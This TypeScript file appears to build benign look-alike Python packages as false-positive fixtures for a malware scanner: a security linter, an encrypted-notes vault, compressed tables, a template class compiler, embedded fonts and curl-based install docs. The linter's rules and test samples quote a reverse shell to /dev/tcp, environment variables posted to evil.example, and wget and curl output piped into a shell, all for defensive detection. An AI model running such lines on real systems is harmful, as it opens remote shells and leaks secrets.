// Owns: honest texts and blobs that resemble payloads: scanners' rules, fonts, tables, compiled expressions, encryption, docs.
// May import: incident.ts, encoders.ts, package-wheel.ts. Start here: any of the exported functions.
import { deflateSync } from 'node:zlib';
import { base64, base85, blob } from '../encoders.ts';
import type { LookAlike } from '../incident.ts';
import { py } from '../python-text.ts';
import { packageWheel } from './package-wheel.ts';

/** A scanner of source code: its rules and test cases quote what it looks for. */
export function securityScanner(): LookAlike {
  return {
    why: 'a linter for security holds patterns and samples of bad code as strings and in tests, and runs none of them',
    release: packageWheel('codeguarder', {
      '__init__.py': 'from .rules import RULES\nfrom .scan import scan_text\n',
      'rules.py': py`"""Rules: an id, a pattern, and the advice shown."""
import re

RULES = [
    ("exec-base64", re.compile(r"exec\s*\(\s*base64\.b64decode\("), "decoded text is executed"),
    ("curl-pipe", re.compile(r"curl[^|\n]+\|\s*(?:ba)?sh"), "a download is piped into a shell"),
    ("reverse-shell", re.compile(r"/dev/tcp/\d+\.\d+\.\d+\.\d+/\d+"), "a shell is sent to an address"),
    ("discord", re.compile(r"discord(?:app)?\.com/api/webhooks/\d+/"), "a webhook receives data"),
    ("telegram", re.compile(r"api\.telegram\.org/bot"), "a bot receives data"),
    ("powershell", re.compile(r"powershell(?:\.exe)?\s+-(?:e|enc|EncodedCommand)\s", re.I), "hidden PowerShell"),
    ("credentials", re.compile(r"\.aws/credentials|\.ssh/id_rsa|Login Data"), "credential files are named"),
]

EXAMPLES = {
    "exec-base64": "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
    "curl-pipe": "os.system('curl -s https://evil.example/x.sh | bash')",
    "reverse-shell": "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
    "powershell": "subprocess.run('powershell -enc SQBFAFgA', shell=True)",
}
`,
      'scan.py': py`"""Apply the rules to a text."""
import ast

from .rules import RULES


def scan_text(text, name="<text>"):
    findings = []
    for number, line in enumerate(text.splitlines(), 1):
        for identifier, pattern, advice in RULES:
            if pattern.search(line):
                findings.append({"rule": identifier, "line": number, "file": name, "advice": advice})
    try:
        tree = ast.parse(text)
    except SyntaxError as error:
        findings.append({"rule": "syntax", "line": error.lineno or 0, "file": name, "advice": "does not parse"})
        return findings
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in ("exec", "eval"):
            findings.append({"rule": "dynamic-code", "line": node.lineno, "file": name, "advice": "code is made of data"})
    return findings
`,
      'tests/__init__.py': '',
      'tests/test_rules.py': py`from codeguarder import scan_text

SAMPLE = """
import os, requests, base64
exec(base64.b64decode("aW1wb3J0IG9z"))
requests.post("https://evil.example/c", json=dict(os.environ))
os.system("wget -qO- http://192.0.2.1/x | sh")
"""


def test_sample_is_found():
    assert {finding["rule"] for finding in scan_text(SAMPLE)} >= {"exec-base64"}
`,
    }),
  };
}

/** Encryption for notes: Fernet with a key from a passphrase. */
export function encryptedNotes(): LookAlike {
  return {
    why: 'Fernet encrypts and decrypts the user’s own text; what is decrypted is returned, never executed',
    release: packageWheel('notevault', {
      '__init__.py': py`"""Encrypted notes in one file."""
import base64
import json
import os
from pathlib import Path

from cryptography.fernet import Fernet, InvalidToken
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.kdf.pbkdf2 import PBKDF2HMAC


def key_of(passphrase, salt):
    kdf = PBKDF2HMAC(algorithm=hashes.SHA256(), length=32, salt=salt, iterations=600_000)
    return base64.urlsafe_b64encode(kdf.derive(passphrase.encode("utf-8")))


class Vault:
    def __init__(self, path, passphrase):
        self.path = Path(path)
        self.passphrase = passphrase

    def read(self):
        raw = self.path.read_bytes()
        salt, token = raw[:16], raw[16:]
        try:
            return json.loads(Fernet(key_of(self.passphrase, salt)).decrypt(token))
        except InvalidToken:
            raise PermissionError("wrong passphrase") from None

    def write(self, notes):
        salt = os.urandom(16)
        token = Fernet(key_of(self.passphrase, salt)).encrypt(json.dumps(notes).encode("utf-8"))
        self.path.write_bytes(salt + token)
`,
    }),
  };
}

/** Tables compressed into the source, as parsers and Unicode libraries ship them. */
export function compressedTables(): LookAlike {
  const table = JSON.stringify(Array.from({ length: 4000 }, (_, index) => [(index * 7919) % 65_536, index % 31]));
  const packed = base85(deflateSync(Buffer.from(table), { level: 9 }));
  return {
    why: 'a long base85 text is inflated into a JSON table at import; nothing is executed',
    release: packageWheel('unitables', {
      '__init__.py': 'from .tables import width\n',
      'tables.py': `"""Widths of characters; generated, do not edit."""\nimport base64\nimport json\nimport zlib\n\n_PACKED = (\n${
        packed
          .match(/.{1,100}/g)
          ?.map((part) => `    ${JSON.stringify(part)}\n`)
          .join('') ?? ''
      })\n_WIDTHS = dict(json.loads(zlib.decompress(base64.b85decode(_PACKED))))\n\n\ndef width(character):\n    return _WIDTHS.get(ord(character), 1)\n`,
    }),
  };
}

/** Code made from templates: namedtuple, attrs and lambdify do the same. */
export function expressionCompiler(): LookAlike {
  return {
    why: 'source text built from a template and from field names is compiled and executed to make a class',
    release: packageWheel('recordclasses', {
      '__init__.py': py`"""Fast record classes."""
import keyword
import linecache
import sys

_TEMPLATE = """class {name}:
    __slots__ = {slots!r}

    def __init__(self, {arguments}):
{assignments}

    def __repr__(self):
        return "{name}({pairs})" % ({values},)
"""


def record(name, fields, module=None):
    """Make a class with these fields."""
    fields = fields.replace(",", " ").split() if isinstance(fields, str) else list(fields)
    for field in [name, *fields]:
        if not field.isidentifier() or keyword.iskeyword(field):
            raise ValueError("not an identifier: %r" % field)
    source = _TEMPLATE.format(
        name=name,
        slots=tuple(fields),
        arguments=", ".join(fields),
        assignments="\n".join("        self.%s = %s" % (field, field) for field in fields),
        pairs=", ".join(field + "=%r" for field in fields),
        values=", ".join("self." + field for field in fields),
    )
    filename = "<record %s>" % name
    namespace = {"__name__": module or "recordclasses"}
    exec(compile(source, filename, "exec"), namespace)
    linecache.cache[filename] = (len(source), None, source.splitlines(True), filename)
    return namespace[name]


def lambdify(arguments, expression):
    """A function of an arithmetic expression."""
    return eval("lambda %s: %s" % (", ".join(arguments), expression), {"__builtins__": {}}, vars(sys.modules["math"]))
`,
    }),
  };
}

/** Fonts and icons as base64 in the source. */
export function embeddedFonts(): LookAlike {
  const font = Buffer.concat([Buffer.from('0001000000120100000400204453494700000001', 'hex'), blob('font', 60_000)]);
  const png = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), blob('icon', 4000)]);
  return {
    why: '80 KB of base64 in the source is a TrueType font and icons, written to a cache file for the renderer',
    release: packageWheel('chartface', {
      '__init__.py': 'from .assets import font_path, icon\n',
      'assets.py': `"""Fonts and icons of the charts."""\nimport base64\nimport os\nimport tempfile\n\nFONT = "${base64(font)}"\nICON = "${base64(png)}"\n\n\ndef icon():\n    return base64.b64decode(ICON)\n\n\ndef font_path():\n    """Path of the font for renderers that want a file."""\n    path = os.path.join(tempfile.gettempdir(), "chartface.ttf")\n    if not os.path.exists(path):\n        with open(path, "wb") as stream:\n            stream.write(base64.b64decode(FONT))\n    return path\n`,
    }),
  };
}

/** Instructions with curl in README, docstrings and error messages. */
export function installDocs(): LookAlike {
  const release = packageWheel('toolbelt-cli', {
    '__init__.py': py`"""A tool belt.

Install the companion with::

    curl -LsSf https://get.toolbelt.example/install.sh | sh

or, on Windows::

    powershell -ExecutionPolicy ByPass -c "irm https://get.toolbelt.example/install.ps1 | iex"
"""

HINT = "the companion is missing: run curl -LsSf https://get.toolbelt.example/install.sh | sh and try again"


def companion():
    import shutil

    path = shutil.which("toolbelt")
    if path is None:
        raise FileNotFoundError(HINT)
    return path
`,
  });
  return {
    why: 'docstrings, README and an error message tell a person to pipe curl into a shell; nothing runs it',
    release: {
      ...release,
      wheel: { description: '# toolbelt\n\n```\ncurl -LsSf https://get.toolbelt.example/install.sh | sh\n```\n' },
    },
  };
}
